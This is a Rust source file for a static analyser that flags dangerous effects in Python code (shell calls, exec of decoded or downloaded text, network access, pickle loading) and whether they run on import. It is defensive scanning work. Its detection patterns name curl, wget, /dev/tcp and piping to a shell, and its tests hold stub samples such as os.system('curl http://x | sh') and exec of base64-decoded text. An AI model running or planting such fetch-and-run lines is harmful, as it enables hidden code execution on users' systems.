//! Python source, read and never run: what it imports, and what it does beyond computing.
//!
//! ```text
//! source ── lex ─▶ tokens ── names: imports and aliases ─▶ dotted names ── sinks ─▶ effects
//! ```
//!
//! Comments and strings are not code. A name counts where it stands as a name, called or handed on, because `f = os.system`
//! calls nothing yet. What stands at the outer level, or in the body of a class, runs when the source is imported. Source
//! that decodes text and runs it is told from source that merely starts a program. This labels; what decides is whether a
//! configuration makes a loader import the source.

mod lex;
mod sinks;

use std::collections::{BTreeMap, BTreeSet};

use lex::{Kind, Token, tokens};
use sinks::{Sink, sink};

/// Source longer than this is looked at up to here.
const LONGEST: usize = 16 << 20;

/// Effects that are told of one source.
const TOLD: usize = 100;

/// Expressions inside of strings inside of strings.
const DEPTH: u32 = 4;

/// Tokens behind an assignment that are looked at.
const NEAR: usize = 200;

/// What source does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Does {
    /// It loads what can run: pickles, native libraries.
    Loads,
    /// It reaches the network.
    Connects,
    /// It deletes or overwrites.
    Destroys,
    /// It starts programs or runs text.
    Runs,
}

/// One place where source acts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Effect {
    /// What it does.
    pub does: Does,
    /// The name that does it, aliases resolved: `os.system`.
    pub name: String,
    /// The call as it stands, or the name.
    pub shown: String,
    /// The line, from 1.
    pub line: u64,
    /// The byte.
    pub byte: u64,
    /// It happens when the source is imported.
    pub on_import: bool,
    /// It runs what it has decoded or fetched.
    pub hidden: bool,
}

/// What is known of a source.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Facts {
    /// Modules that it imports, sorted; those of its own folder begin with a dot.
    pub imports: Vec<String>,
    /// Where it acts, in the order of the lines.
    pub effects: Vec<Effect>,
}

/// Reads a source.
pub fn read(source: &str) -> Facts {
    let end = (0..=source.len().min(LONGEST)).rev().find(|end| source.is_char_boundary(*end)).unwrap_or_default();
    let tokens = tokens(source.get(..end).unwrap_or_default());
    let mut reader = Reader::default();
    reader.imports(&tokens);
    reader.walk(&tokens, source, 0, false);
    reader.effects.truncate(TOLD);
    Facts { imports: reader.modules.into_iter().collect(), effects: reader.effects }
}

#[derive(Default)]
struct Reader {
    modules: BTreeSet<String>,
    /// What a name of the source stands for.
    aliases: BTreeMap<String, String>,
    /// Names that hold what was decoded or fetched.
    decoded: BTreeSet<String>,
    effects: Vec<Effect>,
}

/// A block that its line opened: everything that is indented deeper belongs to it.
struct Block {
    indent: usize,
    /// The token behind the colon of its line; what stands before it, defaults for one, runs at once.
    body: usize,
}

impl Reader {
    /// Collects imports wherever they stand.
    fn imports(&mut self, tokens: &[Token<'_>]) {
        let mut lines = tokens.split(|token| token.kind == Kind::End || token.is(";"));
        for line in &mut lines {
            let start = line.iter().position(|token| token.is("import") || token.is("from"));
            let Some(line) = start.and_then(|start| line.get(start..)) else { continue };
            let Some((first, rest)) = line.split_first() else { continue };
            if first.is("import") {
                for item in rest.split(|token| token.is(",")) {
                    let (name, alias) = named(item);
                    let own = alias.unwrap_or_else(|| name.split('.').next().unwrap_or_default().to_owned());
                    let stands_for = if item.iter().any(|token| token.is("as")) { name.clone() } else { own.clone() };
                    self.modules.insert(name);
                    self.aliases.insert(own, stands_for);
                }
            } else if let Some(middle) = rest.iter().position(|token| token.is("import")) {
                let (module, names) = rest.split_at(middle);
                let module: String = module.iter().map(|token| token.text).collect();
                let names = names.get(1..).unwrap_or_default();
                let plain: Vec<_> = names.iter().filter(|token| !token.is("(") && !token.is(")")).copied().collect();
                for item in plain.split(|token| token.is(",")).filter(|item| !item.is_empty()) {
                    let (name, alias) = named(item);
                    let full =
                        if module.ends_with('.') { format!("{module}{name}") } else { format!("{module}.{name}") };
                    if module.chars().all(|c| c == '.') {
                        self.modules.insert(full.clone());
                    }
                    self.aliases.insert(alias.unwrap_or(name), full);
                }
                self.modules.insert(module);
            }
        }
        self.modules.remove("");
    }

    fn walk(&mut self, tokens: &[Token<'_>], source: &str, depth: u32, inside: bool) {
        let mut blocks: Vec<Block> = Vec::new();
        let mut start_of_line = true;
        let mut at = 0_usize;
        while let Some(token) = tokens.get(at) {
            if start_of_line && token.kind != Kind::End {
                blocks.retain(|block| token.indent > block.indent);
                if let Some(header) = opens(tokens.get(at..).unwrap_or_default()) {
                    blocks.push(Block { indent: token.indent, body: at.saturating_add(header) });
                }
            }
            start_of_line = token.kind == Kind::End;
            let on_import = !inside && !blocks.iter().any(|block| at >= block.body);
            match token.kind {
                Kind::Name => {
                    let (name, next) = dotted(tokens, at);
                    self.name(tokens, at, next, &name, source, on_import);
                    self.assignment(tokens, at, &name);
                    at = next;
                    continue;
                }
                Kind::Format if depth < DEPTH => {
                    for inner in expressions(token.text) {
                        let found = self.effects.len();
                        self.walk(&lex::tokens(inner), inner, depth.saturating_add(1), !on_import);
                        for effect in self.effects.iter_mut().skip(found) {
                            (effect.line, effect.byte) = (token.line, token.at as u64);
                        }
                    }
                }
                _ => {}
            }
            at = at.saturating_add(1);
        }
    }

    /// Looks at a dotted name that stands in the source.
    fn name(&mut self, tokens: &[Token<'_>], at: usize, next: usize, name: &str, source: &str, on_import: bool) {
        let before = at.checked_sub(1).and_then(|before| tokens.get(before));
        let attribute = before.is_some_and(|token| token.is("."));
        let defined =
            before.is_some_and(|token| token.is("def") || token.is("class") || token.is("import") || token.is("as"));
        if defined || self.effects.len() >= TOLD {
            return;
        }
        let full = self.resolve(name, attribute);
        let called = tokens.get(next).is_some_and(|token| token.is("("));
        let handed_on = !tokens.get(next).is_some_and(|token| token.is("=") || token.is(":"));
        let Some(Sink { does, builtin }) = sink(&full, attribute) else { return };
        if builtin
            && !called
            && !(handed_on && before.is_some_and(|token| token.is("=") || token.is(",") || token.is("(")))
        {
            return;
        }
        let arguments = if called { call(tokens, next) } else { &[] };
        if full == "getattr" && !arguments.iter().any(|token| self.leads_to_modules(token)) {
            return;
        }
        let Some(token) = tokens.get(at) else { return };
        let end = arguments
            .last()
            .or(tokens.get(next.saturating_sub(1)))
            .map_or(token.at, |last| last.at.saturating_add(last.text.len()));
        let shown = source.get(token.at..end).unwrap_or(name);
        let hidden = does == Does::Runs && (self.is_decoded(arguments) || fetches_and_runs(arguments));
        let effect = Effect {
            does,
            name: full,
            shown: format!("{shown}{}", if called { ")" } else { "" }),
            line: token.line,
            byte: token.at as u64,
            on_import,
            hidden,
        };
        self.effects.push(effect);
    }

    /// Remembers names that hold what was decoded or fetched: `code = base64.b64decode(…)`.
    fn assignment(&mut self, tokens: &[Token<'_>], at: usize, name: &str) {
        let next = tokens.get(at.saturating_add(1));
        let second = tokens.get(at.saturating_add(2));
        if name.contains('.') || !next.is_some_and(|token| token.is("=")) || second.is_some_and(|token| token.is("=")) {
            return;
        }
        let rest = tokens.get(at.saturating_add(2)..).unwrap_or_default();
        let rest = rest.get(..rest.len().min(NEAR)).unwrap_or_default();
        let line = rest.split(|token| token.kind == Kind::End).next().unwrap_or_default();
        if self.decoded.len() < TOLD && self.is_decoded(line) {
            self.decoded.insert(name.to_owned());
        }
    }

    fn resolve(&self, name: &str, attribute: bool) -> String {
        let (first, rest) = name.split_once('.').map_or((name, None), |(first, rest)| (first, Some(rest)));
        let first = if attribute { first } else { self.aliases.get(first).map_or(first, String::as_str) };
        rest.map_or_else(|| first.to_owned(), |rest| format!("{first}.{rest}"))
    }

    /// Whether tokens decode or fetch something, or name what was.
    fn is_decoded(&self, tokens: &[Token<'_>]) -> bool {
        tokens.iter().filter(|token| token.kind == Kind::Name).any(|token| {
            let full = self.aliases.get(token.text).map_or(token.text, String::as_str);
            full.split('.').any(sinks::decodes) || self.decoded.contains(token.text)
        })
    }

    fn leads_to_modules(&self, token: &Token<'_>) -> bool {
        let full = self.resolve(token.text, false);
        token.kind == Kind::Name && sinks::leads_to_modules(&full)
    }
}

/// Commands that fetch something and hand it to a shell, or decode it first.
fn fetches_and_runs(arguments: &[Token<'_>]) -> bool {
    let texts = arguments.iter().filter(|token| matches!(token.kind, Kind::String | Kind::Format));
    texts.into_iter().any(|token| {
        let text = token.text.to_ascii_lowercase();
        let fetches =
            ["curl ", "wget ", "base64 -d", "base64 --decode", "/dev/tcp/"].iter().any(|word| text.contains(word));
        let runs = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "bash -i", "sh -i"]
            .iter()
            .any(|word| text.contains(word));
        fetches && runs
    })
}

/// The name, or names with dots between them, at a place; and the place behind it.
fn dotted(tokens: &[Token<'_>], at: usize) -> (String, usize) {
    let mut name = tokens.get(at).map(|token| token.text.to_owned()).unwrap_or_default();
    let mut next = at.saturating_add(1);
    while let (Some(dot), Some(step)) = (tokens.get(next), tokens.get(next.saturating_add(1))) {
        if !dot.is(".") || step.kind != Kind::Name {
            break;
        }
        name.push('.');
        name.push_str(step.text);
        next = next.saturating_add(2);
    }
    (name, next)
}

/// What is imported, and under which name: `a.b as c`.
fn named(item: &[Token<'_>]) -> (String, Option<String>) {
    let mut parts = item.split(|token| token.is("as"));
    let name = parts.next().unwrap_or_default().iter().map(|token| token.text).collect();
    let alias = parts.next().and_then(|alias| alias.first()).map(|token| token.text.to_owned());
    (name, alias)
}

/// The tokens of a call behind its bracket, up to the one that closes it.
fn call<'t, 'a>(tokens: &'t [Token<'a>], open: usize) -> &'t [Token<'a>] {
    const MOST: usize = 2000;
    let rest = tokens.get(open.saturating_add(1)..).unwrap_or_default();
    let mut depth = 0_u32;
    let end = rest.iter().take(MOST).position(|token| {
        match token.text {
            "(" | "[" | "{" if token.kind == Kind::Mark => depth = depth.saturating_add(1),
            ")" | "]" | "}" if token.kind == Kind::Mark && depth == 0 => return true,
            ")" | "]" | "}" if token.kind == Kind::Mark => depth = depth.saturating_sub(1),
            _ => {}
        }
        false
    });
    rest.get(..end.unwrap_or(rest.len().min(MOST))).unwrap_or_default()
}

/// Where the body of a block begins that this line opens and whose body runs later: functions, and what only the start of
/// a program runs.
fn opens(line: &[Token<'_>]) -> Option<usize> {
    let (first, second) = (line.first()?, line.get(1));
    let function = first.is("def") || (first.is("async") && second.is_some_and(|token| token.is("def")));
    let main = first.is("if") && second.is_some_and(|token| token.is("__name__"));
    if !function && !main {
        return None;
    }
    let mut depth = 0_u32;
    let colon = line.iter().position(|token| {
        match token.text {
            "(" | "[" | "{" if token.kind == Kind::Mark => depth = depth.saturating_add(1),
            ")" | "]" | "}" if token.kind == Kind::Mark => depth = depth.saturating_sub(1),
            ":" if token.kind == Kind::Mark && depth == 0 => return true,
            _ => return token.kind == Kind::End,
        }
        false
    });
    Some(colon.unwrap_or(line.len()))
}

/// The expressions in the braces of a format string.
fn expressions(text: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(open) = rest.find('{') {
        let inner = rest.get(open.saturating_add(1)..).unwrap_or_default();
        if let Some(after) = inner.strip_prefix('{') {
            rest = after;
            continue;
        }
        let end = inner.find('}').unwrap_or(inner.len());
        found.extend(inner.get(..end));
        rest = inner.get(end..).unwrap_or_default();
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn effects(source: &str) -> Vec<(String, bool, bool)> {
        read(source).effects.into_iter().map(|effect| (effect.name, effect.on_import, effect.hidden)).collect()
    }

    #[test]
    fn honest_modeling_code_has_no_effects() {
        let source = r#"
"""A model. Do not os.system('x') it."""
import math, os
from typing import Optional
import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig
from .configuration_x import XConfig  # exec(1)

class X(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config, eval=False):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(1, 1) for _ in range(3)])
        self.path = os.path.join("a", os.environ.get("HOME", ""))
        self.f = getattr(self, "name", None)
        self.act = getattr(torch.nn.functional, config.act)
    def forward(self, x):
        self.eval()
        pattern = re.compile("a")
        torch.compile(self)
        return f"{x.shape} {self.exec}"
"#;
        let facts = read(source);
        assert_eq!(facts.effects, []);
        assert!(facts.imports.contains(&"torch".to_owned()) && facts.imports.contains(&".configuration_x".to_owned()));
    }

    #[test]
    fn aliases_lead_to_what_acts() {
        for (source, name) in [
            ("import os as o\no.system('x')", "os.system"),
            ("from os import system as s\ns('x')", "os.system"),
            ("import os\nf = os.system", "os.system"),
            ("from subprocess import Popen\nPopen(['x'])", "subprocess.Popen"),
            ("import os; getattr(os, 'sys' + 'tem')('x')", "getattr"),
            ("f = exec\nf('x')", "exec"),
            ("x = f'{__import__(\"os\").system(1)}'", "__import__"),
            ("().__class__.__bases__[0].__subclasses__()", "__subclasses__"),
            ("import importlib\nimportlib.import_module('os').system('x')", "importlib.import_module"),
        ] {
            let found = effects(source);
            assert!(
                found.iter().any(|(found, on_import, _)| found.ends_with(name) && *on_import),
                "{source}: {found:?}"
            );
        }
    }

    #[test]
    fn what_functions_do_happens_when_they_are_called() {
        let source = "import os\ndef f(x=1):\n    os.system('x')\nif __name__ == '__main__':\n    os.system('y')\nclass A:\n    os.system('z')\n";
        let on_import: Vec<bool> = effects(source).into_iter().map(|(_, on_import, _)| on_import).collect();
        assert_eq!(on_import, [false, false, true]);
        assert!(effects("import os\ndef f(x=os.system('x')):\n    pass\n")[0].1);
    }

    #[test]
    fn what_is_decoded_and_run_is_hidden() {
        for source in [
            "import base64\nexec(base64.b64decode('aGk='))",
            "import base64\ncode = base64.b64decode('aGk=')\neval(code)",
            "import urllib.request as u\nexec(u.urlopen('http://x').read())",
            "from base64 import b64decode as d\ndef f():\n    text = d('aGk=')\n    exec(text)",
            "from urllib.request import urlopen as u\nexec(u('http://x').read())",
            "import os\nos.system('curl http://x | sh')",
            "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))",
        ] {
            assert!(effects(source).iter().any(|(.., hidden)| *hidden), "{source}");
        }
        assert!(effects("exec(open('version.py').read())").iter().all(|(.., hidden)| !hidden));
    }

    #[test]
    fn bytes_that_are_no_source_end() {
        for source in ["((((((", "'''", "\\", "def", "f'{{{{", "if __name__", "import", "from . import (", "é = 'é"] {
            read(source);
        }
    }
}
